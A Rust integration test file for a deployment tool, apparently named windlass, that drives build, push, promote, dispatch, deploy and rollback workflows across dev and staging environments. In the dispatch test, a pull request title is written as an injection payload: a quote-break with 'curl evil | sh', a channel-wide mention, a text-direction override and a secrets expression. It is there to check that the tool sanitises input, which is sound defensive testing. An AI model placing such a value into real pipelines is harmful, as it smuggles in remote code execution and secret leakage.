//! The workflows one after the other, each on what the one before has left.

use serde_json::{Value, json};

use super::monorepo::{EVENT, EVENT_USERS, ORDER};
use super::world::World;
use crate::repo::{all, verdicts};

#[test]
fn the_workflows_go_from_an_empty_environment_to_a_rollback() {
    let Some(world) = World::open() else { return };
    let first = world.repo.head();
    let mut seen = 0;
    run_for_the_first_time(&world, &first, &mut seen);
    run_with_nothing_to_do(&world, &mut seen);
    let second = change_what_three_share(&world, &first, &mut seen);
    promote(&world, &first, &second, &mut seen);
    dispatch(&world, &first, &mut seen);
    deploy(&world, &second, &mut seen);
    roll_back(&world, &first, &mut seen);
}

/// The services are there, their images are not: all are built, pushed, deployed and answer.
fn run_for_the_first_time(world: &World, first: &str, seen: &mut usize) {
    let page = world.scratch().join("report.html");
    let (document, code) =
        world.json(&["run", "-e", "dev", "--report-html", page.to_str().unwrap()]);
    assert_eq!(
        (verdicts(&document), code),
        (all(&ORDER, "deployed"), 0),
        "{document:#}"
    );
    world.assert_all_run("dev", first);
    for service in document["services"].as_array().unwrap() {
        let module = service["module"].as_str().unwrap();
        let latest = world.tag("dev", module, "latest");
        assert_eq!(service["push"]["digest"].as_str(), latest.as_deref());
        assert_eq!(service["health"]["revision"], first, "{service:#}");
    }
    assert_eq!(document["gates"].as_array().unwrap().len(), ORDER.len());
    let stages = stages(&document);
    assert_eq!(
        stages,
        ["build", "detect", "gate", "health", "push", "rollout"],
        "{document:#}"
    );
    let page = std::fs::read_to_string(page).unwrap();
    assert!(page.contains("<svg") && page.contains("common-event"));
    let messages = world.messages(seen);
    assert_eq!(messages.len(), 2, "{messages:?}");
    assert!(ORDER.iter().all(|module| messages[1].contains(module)));
    assert!(messages[1].contains(&first[..7]), "{}", messages[1]);
}

fn run_with_nothing_to_do(world: &World, seen: &mut usize) {
    let tags = world.tags("dev");
    let (connections, updates) = (world.wire.connections(), world.calls("UpdateService"));
    let (document, code) = world.json(&["run", "-e", "dev"]);
    assert_eq!(code, 0, "{document:#}");
    assert!(document["nothing"].is_string(), "{document:#}");
    assert_eq!(world.wire.connections(), connections, "nobody was asked");
    assert_eq!(world.calls("UpdateService"), updates);
    assert_eq!(world.tags("dev"), tags);
    assert_eq!(world.messages(seen), [""; 0]);
}

/// Of six services three are deployed, and the others are not touched.
fn change_what_three_share(world: &World, first: &str, seen: &mut usize) -> String {
    world
        .repo
        .write(EVENT, "class Event { int version = 2; }\n");
    world
        .repo
        .write("README.md", "# Skill tracker, the second\n");
    let second = world.commit("Give events a version");
    let before = world.tags("dev");
    let updates = world.calls("UpdateService");
    let (document, code) = world.json(&["run", "-e", "dev"]);
    assert_eq!(
        (verdicts(&document), code),
        (all(&EVENT_USERS, "deployed"), 0),
        "{document:#}"
    );
    assert_eq!(world.calls("UpdateService"), updates + 3);
    let why = document["services"][1]["why"].as_str().unwrap();
    assert!(
        why.contains("common-event") && why.contains(EVENT),
        "through user-service: {why}"
    );
    let untouched = ["api-gateway", "config-server", "skill-service"];
    world.assert_runs("dev", &untouched.map(|module| (module, first)));
    world.assert_runs("dev", &EVENT_USERS.map(|module| (module, second.as_str())));
    let after = world.tags("dev");
    for module in untouched {
        let of = |tags: &std::collections::BTreeMap<String, String>| -> Vec<(String, String)> {
            let own = format!("{module}:");
            tags.clone()
                .into_iter()
                .filter(|(name, _)| name.starts_with(&own))
                .collect()
        };
        assert_eq!(of(&after), of(&before), "{module}");
    }
    let messages = world.messages(seen);
    assert_eq!(messages.len(), 2);
    assert!(messages[1].contains("Give events a version"));
    assert!(!messages[1].contains("skill-service"), "{}", messages[1]);
    second
}

/// The same digests, byte for byte, under the environment's own tag too.
fn promote(world: &World, first: &str, second: &str, seen: &mut usize) {
    let (document, code) = world.json(&["promote", "--from", "dev", "--to", "staging"]);
    assert_eq!(
        (verdicts(&document), code),
        (all(&ORDER, "deployed"), 0),
        "{document:#}"
    );
    for module in ORDER {
        let commit = match EVENT_USERS.contains(&module) {
            true => second,
            false => first,
        };
        let tag = format!("sha-{commit}");
        let digest = world.tag("dev", module, &tag).unwrap();
        for tag in [&*tag, "latest", "staging"] {
            let copied = world.tag("staging", module, tag);
            assert_eq!(copied.as_deref(), Some(&*digest), "{module}:{tag}");
        }
        world.assert_runs("staging", &[(module, commit)]);
    }
    let messages = world.messages(seen);
    assert_eq!(messages.len(), 2);
    assert!(messages[1].contains("staging") && messages[1].contains("dev"));
    let (document, code) = world.json(&["promote", "--from", "dev", "--to", "staging"]);
    assert_eq!(code, 0);
    assert!(document["nothing"].is_string(), "{document:#}");
    assert_eq!(world.messages(seen), [""; 0]);
}

/// Another repository's pipeline asks for an image that is there, under a title that means harm.
fn dispatch(world: &World, first: &str, seen: &mut usize) {
    let title = "\"; curl evil | sh; echo \" <!channel> \u{202e}${{ secrets.X }}";
    let payload = |services: Value| {
        json!({"services": services, "environment": "dev", "commit_sha": first, "pr_title": title,
            "pr_author": "mallory", "pr_url": "https://github.com/acme/shop/pull/7"})
    };
    let file = world.scratch().join("payload.json");
    let send = |services: Value| {
        std::fs::write(&file, payload(services).to_string()).unwrap();
        world.windlass(&[
            "dispatch",
            "--payload",
            file.to_str().unwrap(),
            "--format",
            "json",
        ])
    };
    let updates = world.calls("UpdateService");
    let refused = send(json!(["user-service", "usr-service"]));
    refused.assert_refused(2, &["`usr-service`", "did you mean `user-service`?"]);
    assert_eq!(world.calls("UpdateService"), updates);
    assert_eq!(world.messages(seen), [""; 0]);

    let ended = send(json!(["user-service"]));
    assert_eq!(
        (verdicts(&ended.json()), ended.code),
        (all(&["user-service"], "deployed"), 0),
        "{ended:?}"
    );
    assert_eq!(world.calls("UpdateService"), updates + 1);
    world.assert_runs("dev", &[("user-service", first)]);
    let messages = world.messages(seen);
    assert_eq!(messages.len(), 2);
    assert!(messages[1].contains("mallory") && messages[1].contains("pull/7"));
    assert!(!messages[1].contains("<!channel>"), "{}", messages[1]);
}

/// By hand: `latest`, resolved to the digest that it names.
fn deploy(world: &World, second: &str, seen: &mut usize) {
    let (document, code) = world.json(&["deploy", "-e", "dev", "-s", "user-service"]);
    assert_eq!(
        (verdicts(&document), code),
        (all(&["user-service"], "deployed"), 0),
        "{document:#}"
    );
    world.assert_runs("dev", &[("user-service", second)]);
    let health = &document["services"][0]["health"];
    assert_eq!(health["revision"], second, "{health:#}");
    assert_eq!(world.messages(seen).len(), 2);
    let missing = world.windlass(&[
        "deploy",
        "-e",
        "dev",
        "-s",
        "user-service",
        "--image-tag",
        "sha-0000000",
    ]);
    missing.assert_refused(2, &["sha-0000000", "user-service"]);
}

/// Back to what the dispatch had deployed.
fn roll_back(world: &World, first: &str, seen: &mut usize) {
    let (document, code) = world.json(&["rollback", "-e", "dev", "-s", "user-service"]);
    assert_eq!(
        (verdicts(&document), code),
        (all(&["user-service"], "restored"), 0),
        "{document:#}"
    );
    world.assert_runs("dev", &[("user-service", first)]);
    assert_eq!(document["services"][0]["health"]["revision"], first);
    assert_eq!(world.messages(seen).len(), 2);
    let status = world.windlass(&["status", "-e", "dev", "--health"]);
    assert_eq!(status.code, 0, "{status:?}");
    let line = status
        .stdout
        .lines()
        .find(|line| line.contains("user-service"));
    let line = line.unwrap();
    assert!(
        line.contains(&first[..7]) && line.contains("healthy"),
        "{line}"
    );
}

/// The stages of a timeline, each once, sorted.
fn stages(document: &Value) -> Vec<&str> {
    let spans = document["timeline"].as_array().unwrap();
    let mut stages: Vec<&str> = spans
        .iter()
        .filter_map(|span| span["stage"].as_str())
        .filter(|stage| *stage != "lock")
        .collect();
    stages.sort_unstable();
    stages.dedup();
    stages
}
